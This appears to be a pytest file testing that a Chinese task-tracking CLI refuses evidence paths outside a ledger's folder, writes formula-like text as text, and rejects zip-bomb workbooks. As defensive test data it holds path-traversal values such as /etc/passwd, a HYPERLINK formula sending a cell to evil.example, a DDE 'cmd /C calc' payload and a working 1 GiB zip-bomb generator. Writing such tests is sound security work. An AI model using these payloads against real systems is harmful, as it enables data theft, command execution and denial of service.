"""Hostile imports and exports: evidence paths outside the ledger's folder, formula injection, zip-bomb XLSX."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from conftest import DATA
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from duban.cli import _load_commands
from duban.cli.common import app

runner = CliRunner()
_load_commands()

PDF = b"%PDF-1.4\n%%EOF\n"
STARTED = "projects-started/shuangjiang/2020-09-01"
QL_STARTED = "projects-started/qinglong/2020-09-01"
VISIT = "visits/sj-cadre-1/2020-09-01"
HEADERS = ["编号", "事项", "报告人", "办结时间", "说明", "数值", "佐证材料"]


@pytest.fixture
def cli(mini_store, loop_settings, monkeypatch, tmp_path, snapshot):
    """The CLI on the small plan's store, evidence under tmp_path/var."""
    monkeypatch.setenv("DUBAN_DATABASE_URL", loop_settings.database_url)
    monkeypatch.setenv("DUBAN_VAR_DIR", loop_settings.var_dir)
    monkeypatch.setenv("DUBAN_SECRET", loop_settings.secret)
    monkeypatch.setenv("DUBAN_CONFIG", str(tmp_path / "none.toml"))

    def run(*args):
        result = runner.invoke(app, [str(a) for a in args])
        assert "Traceback" not in result.output, result.output
        return result.exit_code, result.stdout, result.stderr

    run.engine, run.settings = mini_store, loop_settings
    run.snapshot = lambda: snapshot(mini_store)
    return run


def write_ledger(path: Path, rows: list[list]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    book = Workbook()
    book.active.append(HEADERS)
    for row in rows:
        book.active.append(row)
    book.save(path)
    return path


# --- import-reports: evidence stays inside the ledger's folder ---

def test_evidence_outside_the_ledgers_folder_is_refused_and_nothing_is_imported(cli, tmp_path):
    folder = tmp_path / "town"
    (folder / "材料").mkdir(parents=True)
    (folder / "材料" / "开工.pdf").write_bytes(PDF)
    outside = tmp_path / "outside.pdf"
    outside.write_bytes(PDF)
    (folder / "材料" / "link.pdf").symlink_to(outside)
    path = write_ledger(folder / "台账.xlsx", [
        [STARTED, "", "qian@example.org", "2020-09-15", "", 100, "材料/开工.pdf"],   # row 2: good
        [QL_STARTED, "", "13800000007", "2020-09-15", "", 100, "../outside.pdf"],  # row 3
        [VISIT, "", "sj-cadre-1", "2020-09-15", "", None, str(outside)],          # row 4: absolute
        ["leaders-study/leaders/2020-09-06", "", "leaders-head", "", "", None, "/etc/passwd"],  # row 5
        ["teaching/shuangjiang/2020-09-28", "", "qian@example.org", "", "", None, "材料/link.pdf"],  # row 6
        ["dispatch/office/2020-09-28", "", "office-head", "", "", None, "材料\\..\\..\\outside.pdf"],  # row 7
    ])
    before = cli.snapshot()
    code, out, err = cli("import-reports", path, "--as-of", "2020-10-20 09:00")
    assert code == 1, out
    lines = err.strip().splitlines()
    bad = [line for line in lines if line.startswith(f"{path}:")]
    assert [line.split(":")[1] for line in bad] == ["3", "4", "5", "6", "7"], err
    assert all("outside the ledger's folder" in line for line in bad), err
    assert lines[-1] == "duban: nothing imported (5 bad row(s))"
    assert cli.snapshot() == before
    evidence = Path(cli.settings.var_dir) / "evidence"
    assert not evidence.exists() or not [p for p in evidence.rglob("*") if p.is_file()]


def test_evidence_in_a_subfolder_written_with_backslashes_is_found(cli, tmp_path):
    folder = tmp_path / "town"
    (folder / "材料").mkdir(parents=True)
    (folder / "材料" / "开工.pdf").write_bytes(PDF)
    path = write_ledger(folder / "台账.xlsx", [[STARTED, "", "qian@example.org", "2020-09-15", "", 100,
                                                "材料\\开工.pdf"]])
    code, out, err = cli("import-reports", path, "--as-of", "2020-10-20 09:00")
    assert code == 0, err
    assert "1 evidence file(s)" in out


# --- formula injection: text that looks like a formula is written as text ---

HYPERLINK = '=HYPERLINK("http://evil.example/x?d="&A1,"点此查看")'
HOSTILE = {HYPERLINK, "=1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"}


@pytest.fixture
def hostile_plan(tmp_path, monkeypatch):
    """The small plan with task titles, unit names and people's names that look like formulas."""
    text = (DATA / "mini.yaml").read_text(encoding="utf-8")
    text = text.replace("title: 所有扶贫项目全面开工", f"title: '{HYPERLINK.replace(chr(39), chr(39) * 2)}'")
    text = text.replace("title: 县委、县政府专题研究脱贫攻坚工作", "title: '=1+1'")
    text = text.replace("name: 双江街道", "name: '+1+1'").replace("name: 青龙街道", "name: '-2+3'")
    catalog = tmp_path / "plan.yaml"
    catalog.write_text(text, encoding="utf-8")
    contacts = (DATA / "mini_contacts.csv").read_text(encoding="utf-8")
    contacts = contacts.replace("周干部", '"=1+1"').replace("冯干部", "\"@SUM(1+1)*cmd|' /C calc'!A0\"")
    people = tmp_path / "contacts.csv"
    people.write_text(contacts, encoding="utf-8")
    for key, value in {"DUBAN_DATABASE_URL": f"sqlite:///{tmp_path / 'duban.sqlite'}",
                       "DUBAN_VAR_DIR": str(tmp_path / "var"), "DUBAN_CATALOG": str(catalog),
                       "DUBAN_CONTACTS": str(people), "DUBAN_SECRET": "s" * 32,
                       "DUBAN_CONFIG": str(tmp_path / "none.toml")}.items():
        monkeypatch.setenv(key, value)
    return tmp_path


def cells(path: Path) -> list:
    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def formulas_in_xml(path: Path) -> int:
    with zipfile.ZipFile(path) as archive:
        return sum(archive.read(name).count(b"<f>") + archive.read(name).count(b"<f ")
                   for name in archive.namelist() if name.startswith("xl/worksheets/"))


def test_formula_like_text_comes_out_of_every_workbook_as_text(hostile_plan):
    def duban(*args):
        result = runner.invoke(app, [str(a) for a in args])
        assert result.exit_code == 0, result.output
        return result.stdout

    duban("sync")
    out = hostile_plan / "out"
    duban("sheet", "--as-of", "2020-10-29 09:00", "--out", out, "--format", "xlsx")
    duban("bulletin", "--month", "2020-09", "--out", out, "--format", "xlsx")
    duban("import-reports", "--template", out / "台账模板.xlsx", "--as-of", "2020-09-10 09:00")
    books = sorted(out.glob("*.xlsx"))
    assert len(books) == 3, books
    seen: set[str] = set()
    for book in books:
        found = cells(book)
        assert [c.coordinate for c in found if c.data_type == "f"] == [], book.name
        assert formulas_in_xml(book) == 0, book.name
        hostile = [c for c in found if isinstance(c.value, str) and c.value in HOSTILE]
        assert hostile, book.name
        assert {c.data_type for c in hostile} == {"s"}, book.name
        assert all(c.quotePrefix for c in hostile), book.name  # still text when someone edits the cell
        seen |= {c.value for c in hostile}
    assert seen == HOSTILE


# --- zip bombs: refused by their declared sizes before openpyxl reads them ---

GIB = 1 << 30
CHUNK = b" " * (1 << 20)


def _deflated_padding(prefix: bytes, suffix: bytes, repeats: int) -> tuple[bytes, int, int]:
    """Raw deflate of prefix + CHUNK * repeats + suffix, built from one compressed chunk: (data, crc, size)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(prefix) + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(CHUNK) + packer.flush(zlib.Z_FULL_FLUSH)  # a full flush forgets the history, so
    tail = packer.compress(suffix) + packer.flush()                   # every chunk compresses to these bytes
    crc = zlib.crc32(prefix)
    for _ in range(repeats):
        crc = zlib.crc32(CHUNK, crc)
    return head + piece * repeats + tail, zlib.crc32(suffix, crc), len(prefix) + len(CHUNK) * repeats + len(suffix)


def _zip(parts: list[tuple[str, int, bytes, int, int]]) -> bytes:
    """A zip archive from (name, method, stored bytes, crc, size) written by hand (zipfile would deflate 1 GB)."""
    out, directory = io.BytesIO(), io.BytesIO()
    for name, method, data, crc, size in parts:
        offset, raw = out.tell(), name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(data), size, len(raw), 0))
        out.write(raw + data)
        directory.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, len(data),
                                    size, len(raw), 0, 0, 0, 0, 0, offset) + raw)
    start = out.tell()
    out.write(directory.getvalue())
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(parts), len(parts), len(directory.getvalue()), start, 0))
    return out.getvalue()


def zip_bomb(path: Path, header: list[str], inflated: int = GIB) -> Path:
    """A genuine workbook whose first sheet is padded with spaces between its XML elements to `inflated` bytes."""
    book = Workbook()
    book.active.append(header)
    plain = io.BytesIO()
    book.save(plain)
    parts = []
    with zipfile.ZipFile(plain) as archive:
        for info in archive.infolist():
            data = archive.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                prefix, mark, suffix = data.partition(b"<sheetData>")
                stored, crc, size = _deflated_padding(prefix + mark, suffix, inflated // len(CHUNK))
                parts.append((info.filename, zipfile.ZIP_DEFLATED, stored, crc, size))
            else:
                parts.append((info.filename, zipfile.ZIP_STORED, data, zlib.crc32(data), len(data)))
    path.write_bytes(_zip(parts))
    return path


@pytest.fixture(scope="module")
def bombs(tmp_path_factory):
    """A contacts list and a ledger of about 1 MB each that inflate to 1 GiB."""
    folder = tmp_path_factory.mktemp("bombs")
    return {"contacts": zip_bomb(folder / "contacts.xlsx", ["id", "name", "unit", "roles", "email", "mobile"]),
            "ledger": zip_bomb(folder / "台账.xlsx", HEADERS)}


def test_the_bombs_are_genuine_workbooks(bombs, tmp_path):
    for path in bombs.values():
        with zipfile.ZipFile(path) as archive:
            inflated = sum(info.file_size for info in archive.infolist())
        assert path.stat().st_size < 1.2 * 1024 * 1024 and inflated > GIB
    small = zip_bomb(tmp_path / "small.xlsx", HEADERS, inflated=8 << 20)  # built the same way, read in full
    rows = list(load_workbook(small, read_only=True).worksheets[0].iter_rows(values_only=True))
    assert rows == [tuple(HEADERS)]


def test_a_zip_bomb_contacts_list_is_refused_by_size(bombs):
    result = runner.invoke(app, ["check", str(DATA / "mini.yaml"), "--contacts", str(bombs["contacts"])])
    assert result.exit_code == 1
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in result.output, result.output
    assert lines[0].startswith(f"duban: {bombs['contacts']}: refused: its parts would inflate to 1,024 MB"), lines


def test_a_zip_bomb_ledger_is_refused_by_size(cli, bombs):
    before = cli.snapshot()
    code, _out, err = cli("import-reports", bombs["ledger"], "--as-of", "2020-10-20 09:00")
    assert code == 1
    lines = err.strip().splitlines()
    assert lines[0].startswith(f"{bombs['ledger']}:1: refused: its parts would inflate to 1,024 MB"), err
    assert lines[1:] == ["duban: nothing imported (1 bad row(s))"]
    assert cli.snapshot() == before


def test_an_ordinary_workbook_passes_the_size_check(tmp_path):
    from duban.xlsxsafe import open_workbook

    path = tmp_path / "ok.xlsx"
    book = Workbook()
    for n in range(2000):
        book.active.append([f"p{n}", "周干部", "shuangjiang", "pairing_cadre", f"p{n}@example.org", 13800000000 + n])
    book.save(path)
    assert sum(1 for _ in open_workbook(path).worksheets[0].iter_rows()) == 2000
